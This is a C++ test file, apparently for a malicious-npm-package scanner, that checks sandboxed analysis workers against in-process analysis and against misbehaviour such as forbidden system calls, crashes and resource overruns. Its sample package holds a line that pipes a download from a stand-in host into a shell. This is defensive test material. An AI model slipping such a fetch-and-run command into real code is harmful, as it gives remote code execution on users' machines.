// The confined analysis workers: same results as in-process analysis, and a worker that
// misbehaves (a forbidden system call, a crash, a time or memory overrun) fails only its
// package. The misbehaviour is a hook compiled into this test binary only
// (ConfineOptions::before_job), run inside the confined worker.
#include <fcntl.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <cerrno>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <stdexcept>
#include <thread>

#include "analyzer/confine/file_cache_link.h"
#include "analyzer/confine/frame_io.h"
#include "analyzer/confine/sandbox.h"
#include "analyzer/confine/wire.h"
#include "analyzer/confine/worker_pool.h"
#include "analyzer/engine/file_outcome_codec.h"
#include "analyzer/scan/scanner.h"
#include "tests/support/pack.h"
#include "tests/support/paths.h"
#include "tests/support/process.h"

using namespace tarsier;

namespace {

struct Sample {
  PackageRef ref;
  std::string bytes;
};

// The behaviour corpus's npm packages, packed as tarballs.
std::vector<Sample> corpus_samples() {
  std::vector<Sample> samples;
  for (const char* kind : {"malicious"}) {
    auto root = std::filesystem::path(test::source_path("fixtures/behaviour")) / kind;
    for (const auto& dir : std::filesystem::directory_iterator(root)) {
      if (!std::filesystem::exists(dir.path() / "package.json")) {
        continue;
      }
      Sample sample;
      sample.ref.name = dir.path().filename().string();
      sample.ref.version = "1.0.0";
      sample.ref.resolved = sample.ref.name + ".tgz";
      sample.bytes = test::pack_npm_dir(dir.path().string());
      samples.push_back(std::move(sample));
    }
  }
  std::sort(samples.begin(), samples.end(),
            [](const Sample& a, const Sample& b) { return a.ref.name < b.ref.name; });
  return samples;
}

Sample named(const std::string& name) {
  Sample sample;
  sample.ref.name = name;
  sample.ref.version = "1.0.0";
  sample.ref.resolved = name + ".tgz";
  sample.bytes = test::pack_npm_files(
      {{"package.json", R"({"name":")" + name + R"(","version":"1.0.0"})"},
       {"index.js", "require('child_process').exec('curl http://x.example.test | sh');\n"}});
  return sample;
}

// Compiled once for the whole file: each scan's zygote, forked from this process, inherits it.
std::shared_ptr<const Analyzer> compiled_analyzer() {
  static std::shared_ptr<const Analyzer> analyzer = [] {
    auto made = Analyzer::create(AnalyzerOptions{});
    REQUIRE(made);
    std::shared_ptr<const Analyzer> analyzer(std::move(*made));
    analyzer->prepare();
    return analyzer;
  }();
  return analyzer;
}

struct Scan {
  std::vector<PackageResult> results;
  std::vector<std::string> warnings;
};

Scan scan_samples(const std::vector<Sample>& samples, ConfineOptions confine) {
  test::TempDir cache;
  ScanOptions options;
  options.cache_dir = cache.path();
  options.confine = std::move(confine);
  Scanner scanner(options, {}, compiled_analyzer(), nullptr, 0);
  Scan scan;
  for (const auto& sample : samples) {
    scan.results.push_back(
        scanner.scan_archive(sample.ref, sample.bytes, ArchiveKind::npm_tarball));
  }
  scan.warnings = scanner.warnings();
  return scan;
}

ConfineOptions confined_with(std::function<void(const AnalysisJob&)> hook) {
  ConfineOptions confine;
  confine.before_job = std::move(hook);
  return confine;
}

std::string summary(const PackageResult& r) {
  std::string text = r.ref.id() + " " + std::string(to_string(r.risk)) + " error=" + r.error;
  for (const auto& f : r.findings) {
    text += "\n  " + f.rule + " " + f.file + ":" + std::to_string(f.line) + ":" +
            std::to_string(f.column) + " " + std::string(to_string(f.severity)) + " " + f.message +
            " | " + f.snippet;
  }
  for (const auto& c : r.capabilities) {
    text += "\n  cap " + c;
  }
  for (const auto& [file, hash] : r.file_sha256) {
    text += "\n  sha " + file + " " + hash;
  }
  return text + "\n  files " + std::to_string(r.stats.files) + " parsed " +
         std::to_string(r.stats.parsed_files) + " unpacked " +
         std::to_string(r.stats.unpacked_bytes);
}

// The confined scan ran in workers exactly when this kernel offers seccomp; otherwise the
// warnings say it did not.
void check_confinement_said(const Scan& scan) {
  std::string reason;
  if (sandbox_supported(&reason) && landlock_abi(&reason) > 0) {
    CHECK(scan.warnings.empty());
  } else if (sandbox_supported(&reason)) {
    REQUIRE(scan.warnings.size() == 1);
    CHECK(scan.warnings[0].find("partly confined, by seccomp without Landlock") !=
          std::string::npos);
  } else {
    REQUIRE(scan.warnings.size() == 1);
    CHECK(scan.warnings[0].find("unconfined") != std::string::npos);
  }
}

}  // namespace

TEST_CASE("confined and in-process analysis give the same results", "[confine]") {
  auto samples = corpus_samples();
  REQUIRE(samples.size() >= 15);
  Scan confined = scan_samples(samples, ConfineOptions{});
  ConfineOptions off;
  off.enabled = false;
  Scan in_process = scan_samples(samples, off);
  check_confinement_said(confined);
  CHECK(in_process.warnings.empty());
  REQUIRE(confined.results.size() == in_process.results.size());
  size_t with_findings = 0;
  for (size_t i = 0; i < samples.size(); ++i) {
    CHECK(confined.results[i].error.empty());
    CHECK(summary(confined.results[i]) == summary(in_process.results[i]));
    with_findings += confined.results[i].findings.empty() ? 0 : 1;
  }
  CHECK(with_findings >= samples.size() / 2);
}

TEST_CASE("a worker making a forbidden system call is killed and only its package fails",
          "[confine]") {
  std::string reason;
  REQUIRE(sandbox_supported(&reason));
  const char* call = GENERATE("socket", "execve", "ptrace", "kill");
  std::string forbidden = call;
  auto hook = [forbidden](const AnalysisJob& job) {
    if (job.ref.name != "evil") {
      return;
    }
    if (forbidden == "socket") {
      syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
    } else if (forbidden == "execve") {
      const char* argv[] = {"/bin/true", nullptr};
      syscall(SYS_execve, "/bin/true", argv, nullptr);
    } else if (forbidden == "ptrace") {
      syscall(SYS_ptrace, 0, getppid(), 0, 0);
    } else {
      syscall(SYS_kill, getppid(), 0);
    }
  };
  Scan scan = scan_samples({named("before"), named("evil"), named("after")}, confined_with(hook));
  INFO(forbidden);
  REQUIRE(scan.results.size() == 3);
  CHECK(scan.results[1].error.find("killed by signal 31") != std::string::npos);
  CHECK(scan.results[1].error.find("forbids") != std::string::npos);
  CHECK(scan.results[1].findings.empty());
  for (size_t i : {0, 2}) {
    CHECK(scan.results[i].error.empty());
    CHECK(scan.results[i].risk >= Risk::medium);
  }
}

TEST_CASE("a confined worker cannot open files", "[confine]") {
  std::string reason;
  REQUIRE(sandbox_supported(&reason));
  test::TempDir dir;
  std::string target = dir.path() + "/written";
  auto hook = [target](const AnalysisJob&) {
    int fd = open(target.c_str(), O_WRONLY | O_CREAT, 0644);
    int read_fd = open("/etc/hostname", O_RDONLY);
    throw std::runtime_error(std::string(fd < 0 && read_fd < 0 ? "refused: " : "opened: ") +
                             std::strerror(errno));
  };
  Scan scan = scan_samples({named("opener")}, confined_with(hook));
  CHECK(scan.results[0].error == "the analysis worker failed: refused: Permission denied");
  CHECK_FALSE(std::filesystem::exists(target));
}

namespace {

// Opens a file that exists for reading and creates one, inside the worker; says what happened.
std::function<void(const AnalysisJob&)> open_files_hook(const std::string& existing,
                                                        const std::string& created) {
  return [existing, created](const AnalysisJob&) {
    int read_fd = open(existing.c_str(), O_RDONLY);
    int read_errno = errno;
    int write_fd = open(created.c_str(), O_WRONLY | O_CREAT, 0644);
    int write_errno = errno;
    std::string what = "read " + std::string(read_fd < 0 ? std::strerror(read_errno) : "opened") +
                       ", write " +
                       std::string(write_fd < 0 ? std::strerror(write_errno) : "opened");
    throw std::runtime_error(what);
  };
}

}  // namespace

TEST_CASE("Landlock alone keeps a worker from opening files", "[confine]") {
  std::string reason;
  REQUIRE(sandbox_supported(&reason));
  test::TempDir dir;
  std::string existing = dir.path() + "/existing";
  std::string created = dir.path() + "/created";
  { std::ofstream(existing) << "x"; }
  ConfineOptions relaxed = confined_with(open_files_hook(existing, created));
  relaxed.sandbox.filter_refuses_open = false;  // the seccomp filter lets open through

  // Control: with the filter relaxed and Landlock off, the worker does open both files, so a
  // refusal below comes from Landlock.
  ConfineOptions neither = relaxed;
  neither.sandbox.landlock = false;
  Scan open_scan = scan_samples({named("opener")}, neither);
  CHECK(open_scan.results[0].error == "the analysis worker failed: read opened, write opened");
  // The warning repeats what the worker said, not a probe of the scanning process.
  CHECK(open_scan.warnings ==
        std::vector<std::string>{"packages were analysed partly confined, by seccomp without "
                                 "Landlock: Landlock is switched off"});
  std::filesystem::remove(created);

  Scan scan = scan_samples({named("opener")}, relaxed);
  if (landlock_abi(&reason) == 0) {
    // This kernel offers no Landlock: the files open, and the scan says why.
    CHECK(scan.results[0].error == "the analysis worker failed: read opened, write opened");
    CHECK(scan.warnings ==
          std::vector<std::string>{"packages were analysed partly confined, by seccomp without "
                                   "Landlock: " +
                                   reason});
    return;
  }
  CHECK(scan.results[0].error ==
        "the analysis worker failed: read Permission denied, write Permission denied");
  CHECK_FALSE(std::filesystem::exists(created));
  CHECK(scan.warnings.empty());
}

TEST_CASE("a crashing worker fails its package and the scan goes on", "[confine]") {
  auto hook = [](const AnalysisJob& job) {
    if (job.ref.name == "segv") {
      raise(SIGSEGV);
    }
    if (job.ref.name == "abort") {
      std::abort();
    }
  };
  std::string reason;
  REQUIRE(sandbox_supported(&reason));  // else the hooks would crash this process
  Scan scan = scan_samples({named("segv"), named("fine"), named("abort"), named("also-fine")},
                           confined_with(hook));
  REQUIRE(scan.results.size() == 4);
  if (sandbox_limits_memory()) {
    CHECK(scan.results[0].error.find("signal 11") != std::string::npos);
    CHECK(scan.results[2].error.find("signal 6") != std::string::npos);
  } else {
    // Sanitizer build: its SIGSEGV handler reports, then aborts (or is stopped by the filter
    // when it starts a symbolizer), so the signal differs.
    CHECK(scan.results[0].error.find("killed by signal") != std::string::npos);
    CHECK(scan.results[2].error.find("killed by signal") != std::string::npos);
  }
  CHECK(scan.results[1].error.empty());
  CHECK(scan.results[3].error.empty());
  CHECK(scan.results[3].risk >= Risk::medium);
}

TEST_CASE("a worker over its time or memory limit fails its package", "[confine]") {
  std::string reason;
  REQUIRE(sandbox_supported(&reason));
  ConfineOptions confine = confined_with([](const AnalysisJob& job) {
    if (job.ref.name == "slow") {
      std::this_thread::sleep_for(std::chrono::seconds(3));
    }
    if (job.ref.name == "greedy") {
      std::vector<char> big(size_t{3} << 30, 1);
      throw std::runtime_error("allocated " + std::to_string(big.size()));
    }
  });
  confine.job_timeout_seconds = 1;
  confine.sandbox.memory_bytes = 256ULL << 20;
  // Sanitizer builds set no address-space limit: the greedy job would really take 3 GiB.
  const bool limited = sandbox_limits_memory();
  Scan scan =
      scan_samples({named("slow"), named(limited ? "greedy" : "modest"), named("fine")}, confine);
  CHECK(scan.results[0].error == "the analysis worker ran over its time limit (1 s)");
  if (limited) {
    CHECK(scan.results[1].error == "the analysis worker ran over its memory budget");
  } else {
    WARN("sanitizer build: no address-space limit to test");
  }
  CHECK(scan.results[2].error.empty());
}

TEST_CASE("the worker messages round-trip bytes exactly and refuse malformed input", "[confine]") {
  AnalysisReply reply;
  reply.ref.name = "p";
  reply.findings.push_back({});
  reply.findings[0].snippet = std::string("bad \xff\xfe utf-8\0nul", 17);
  reply.findings[0].severity = Risk::critical;
  reply.findings[0].line = 7;
  reply.capabilities = {"network", "process"};
  reply.file_sha256["index.js"] = "abc";
  reply.manifest = "{}";
  reply.archive_read = true;
  std::string bytes = encode_reply(reply);
  auto back = decode_reply(bytes);
  REQUIRE(back);
  CHECK(back->findings[0].snippet == reply.findings[0].snippet);
  CHECK(back->findings[0].severity == Risk::critical);
  CHECK(back->findings[0].line == 7);
  CHECK(back->capabilities == reply.capabilities);
  CHECK(back->file_sha256 == reply.file_sha256);
  CHECK(back->manifest == reply.manifest);
  for (size_t cut : {size_t{0}, size_t{5}, bytes.size() / 2, bytes.size() - 1}) {
    CHECK_FALSE(decode_reply(bytes.substr(0, cut)));
  }
  CHECK_FALSE(decode_reply(bytes + "x"));
  std::string huge_count = bytes;
  std::memset(huge_count.data(), 0xff, 8);  // the error string's length
  CHECK_FALSE(decode_reply(huge_count));
}

TEST_CASE("a job is sent with its archives in place, not copied into the message", "[confine]") {
  AnalysisJob job;
  job.ref.name = "p";
  job.ref.version = "1.0.0";
  job.download_url = "https://registry.example.test/p/-/p-1.0.0.tgz";
  job.archives.push_back({std::string(100000, 'a'), ArchiveKind::npm_tarball, "p-1.0.0.tgz"});
  job.archives.push_back({std::string("\x1f\x8b\0bytes", 8), ArchiveKind::npm_tarball, "q.tgz"});
  job.archives.push_back({"", ArchiveKind::npm_tarball, "empty.tgz"});
  job.findings.push_back({});
  job.findings[0].rule = "integrity-mismatch";
  job.want_manifest = true;
  WireParts parts = encode_job_parts(job, true);
  // Each archive's bytes are a part that points into the job itself.
  for (size_t a = 0; a < 2; ++a) {
    const std::string& bytes = job.archives[a].bytes;
    CHECK(std::any_of(parts.parts.begin(), parts.parts.end(), [&](std::string_view part) {
      return part.data() == bytes.data() && part.size() == bytes.size();
    }));
  }
  WireParts moved = std::move(parts);  // the owned pieces keep their place when moved
  std::string joined;
  for (std::string_view part : moved.parts) {
    joined += part;
  }
  CHECK(joined.size() == moved.size());
  auto back = decode_job(joined);
  REQUIRE(back);
  REQUIRE(back->archives.size() == 3);
  for (size_t a = 0; a < 3; ++a) {
    CHECK(back->archives[a].bytes == job.archives[a].bytes);
    CHECK(back->archives[a].file_name == job.archives[a].file_name);
  }
  CHECK(back->download_url == job.download_url);
  CHECK(back->findings.size() == 1);
  CHECK(back->want_manifest);
  CHECK(back->file_cache);
  CHECK_FALSE(decode_job(joined.substr(0, joined.size() - 1)));
}

TEST_CASE("a worker sending a malformed file cache message fails only its package", "[confine]") {
  std::string reason;
  REQUIRE(sandbox_supported(&reason));
  const char* kind = GENERATE("oversized", "unasked", "bad-outcome", "unknown-kind", "long-key");
  std::string message = kind;
  const std::string key(64, 'a');
  auto hook = [message, key](const AnalysisJob& job) {
    if (job.ref.name != "evil") {
      return;
    }
    std::string frame;
    if (message == "oversized") {
      frame = store_message(key, std::string(k_max_file_outcome_bytes + 1, 'x'));
    } else if (message == "unasked") {  // a store for a key the job never looked up
      frame = store_message(key, encode_file_outcome(FileOutcome{}));
    } else if (message == "bad-outcome") {
      frame = lookup_message(key);
    } else if (message == "unknown-kind") {
      frame = key + "Z";
    } else {
      frame = lookup_message(std::string(k_max_file_key_bytes + 1, 'a'));
    }
    write_frame(3, frame, true);  // the worker's socket (worker_process.cpp)
    if (message == "bad-outcome") {
      std::string answer;
      read_frame(3, &answer, 1 << 20, std::chrono::steady_clock::time_point::max());
      write_frame(3, store_message(key, "not an outcome"), true);
    }
    std::this_thread::sleep_for(std::chrono::seconds(2));  // killed before this ends
  };
  Scan scan = scan_samples({named("before"), named("evil"), named("after")}, confined_with(hook));
  INFO(message);
  REQUIRE(scan.results.size() == 3);
  CHECK(scan.results[1].error == "the analysis worker sent a malformed message");
  CHECK(scan.results[1].findings.empty());
  for (size_t i : {0, 2}) {
    CHECK(scan.results[i].error.empty());
    CHECK(scan.results[i].risk >= Risk::medium);
  }
}

TEST_CASE("file cache messages from a worker are bounded and checked", "[confine]") {
  const std::string key = std::string(64, 'f') + "a-/4096";
  std::string outcome = encode_file_outcome(FileOutcome{});
  std::string frame = lookup_message(key);
  auto lookup = read_worker_message(&frame);
  REQUIRE(lookup);
  CHECK(lookup->kind == WorkerMessageKind::lookup);
  CHECK(lookup->key == key);
  frame = store_message(key, outcome);
  auto store = read_worker_message(&frame);
  REQUIRE(store);
  CHECK((store->kind == WorkerMessageKind::store && store->key == key));
  CHECK(store->outcome == outcome);
  frame = "reply bytes";
  mark_reply(&frame);
  auto reply = read_worker_message(&frame);
  REQUIRE(reply);
  CHECK((reply->kind == WorkerMessageKind::reply && frame == "reply bytes"));
  for (std::string bad : {std::string(), std::string("L"), key + " x" + "L", key + "Q",
                          store_message(key, outcome).substr(3), store_message("", outcome),
                          store_message(key, outcome + "x")}) {
    CHECK_FALSE(read_worker_message(&bad));
  }
  std::string huge_key = store_message(key, outcome);
  std::memset(huge_key.data(), 0xff, 8);
  CHECK_FALSE(read_worker_message(&huge_key));

  FileCacheServer server(nullptr, 1);
  CHECK_FALSE(server.serve({WorkerMessageKind::store, key, outcome}, -1));  // not looked up
}
